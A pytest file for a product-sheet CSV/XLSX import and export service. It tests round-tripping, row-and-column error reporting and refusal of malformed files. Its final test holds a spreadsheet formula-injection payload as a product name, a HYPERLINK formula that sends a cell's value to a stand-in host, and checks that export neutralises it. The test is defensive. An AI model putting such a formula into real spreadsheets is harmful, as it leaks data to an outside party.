"""HQ's product sheet (cloud/services/product_sheet.py): CSV and XLSX read back what export wrote; every bad cell is
named by its row and column, and a sheet with any bad row yields no catalogue."""
from __future__ import annotations

import pytest

from cloud.services import product_sheet
from protocol.pricing import Catalogue, LevelPrice, Product

APPLE = Product(sku="PS-APPLE", name="苹果", category="fruit", unit="piece", price_fen=1000, plu="4101",
                member_prices=(LevelPrice(level="gold", price_fen=900),), supplier="果园")
PEAR = Product(sku="PS-PEAR", name="Pear", category="fruit", unit="kg", price_fen=2000, plu="4102")
CATALOGUE = Catalogue([APPLE, PEAR])


@pytest.mark.parametrize("write, read", [(product_sheet.to_csv, product_sheet.rows_from_csv),
                                         (product_sheet.to_xlsx, product_sheet.rows_from_xlsx)])
def test_an_exported_sheet_imports_back_unchanged(write, read):
    preview, errors, after = product_sheet.parse(read(write(CATALOGUE)), CATALOGUE)
    assert errors == [] and after is not None
    assert {r["sku"]: r["action"] for r in preview} == {"PS-APPLE": "unchanged", "PS-PEAR": "unchanged"}
    assert after.by_sku == CATALOGUE.by_sku


def test_a_sheet_of_prices_only_changes_prices_and_adds_a_new_product():
    rows = [["sku", "price_fen", "member_prices", "name", "category", "unit"],
            ["PS-APPLE", "1200", "gold:1100;silver:1150", "苹果", "fruit", "piece"],
            ["PS-NEW", "300", "", "Lime", "fruit", "piece"]]
    preview, errors, after = product_sheet.parse(rows, CATALOGUE)
    assert errors == [] and after is not None
    apple = after.get("PS-APPLE")
    assert apple.price_fen == 1200 and apple.supplier == "果园" and apple.plu == "4101"  # absent columns kept
    assert [lp.level for lp in apple.member_prices] == ["gold", "silver"]
    assert {r["sku"]: r["action"] for r in preview} == {"PS-APPLE": "changed", "PS-NEW": "created"}
    assert after.get("PS-PEAR") == PEAR  # not in the sheet: kept


def test_every_bad_cell_is_named_by_row_and_column_and_nothing_is_returned_to_apply():
    rows = [["sku", "name", "category", "unit", "price_fen", "member_prices", "plu"],
            ["PS-OK", "Fine", "fruit", "piece", "100", "", ""],
            ["PS-A", "A", "fruit", "piece", "12.5", "", ""],
            ["PS-B", "B", "fruit", "box", "100", "", ""],
            ["PS-C", "C", "fruit", "piece", "100", "gold-90", ""],
            ["PS-OK", "Twice", "fruit", "piece", "100", "", ""],
            ["PS-D", "D", "fruit", "piece", "100", "", "4101"]]
    preview, errors, after = product_sheet.parse(rows, CATALOGUE)
    assert after is None
    got = {(e["row"], e["column"]) for e in errors}
    assert {(3, "price_fen"), (4, "unit"), (5, "member_prices"), (6, "sku")} <= got
    _, errors2, after2 = product_sheet.parse([rows[0], rows[1], rows[6]], CATALOGUE)
    assert after2 is None and errors2[0]["row"] == 3 and "4101" in errors2[0]["detail"]  # PLU of PS-APPLE


def test_unknown_columns_and_missing_required_ones_are_named():
    _, errors, after = product_sheet.parse([["sku", "prize"], ["PS-APPLE", "1"]], CATALOGUE)
    assert after is None and errors[0] == {"row": 1, "column": "prize", "detail": errors[0]["detail"]}
    _, errors, after = product_sheet.parse([["sku", "price_fen"], ["PS-NEW", "100"]], CATALOGUE)
    assert after is None and {(e["row"], e["column"]) for e in errors} == {(2, "name"), (2, "category"), (2, "unit")}


def test_a_file_that_is_no_sheet_is_refused_as_such():
    with pytest.raises(product_sheet.SheetError, match="XLSX"):
        product_sheet.rows_from_xlsx(b"sku,name\n")
    with pytest.raises(product_sheet.SheetError, match="empty"):
        product_sheet.parse([], CATALOGUE)
    assert product_sheet.rows_from_csv("sku,name\nA,苹果\n".encode("gb18030"))[1] == ["A", "苹果"]


def test_a_name_that_a_spreadsheet_would_run_is_exported_as_text():
    """A stall owner may name their product; HQ opens the export in a spreadsheet: it must not run it."""
    hostile = Product(sku="PS-EVIL", name='=HYPERLINK("http://x/?"&B2,"open")', category="packed", unit="piece",
                      price_fen=100)
    catalogue = Catalogue([hostile])
    text = product_sheet.to_csv(catalogue).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
    from io import BytesIO

    from openpyxl import load_workbook
    sheet = load_workbook(BytesIO(product_sheet.to_xlsx(catalogue))).active
    cell = next(c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert cell.data_type == "s" and cell.value.startswith("'=")
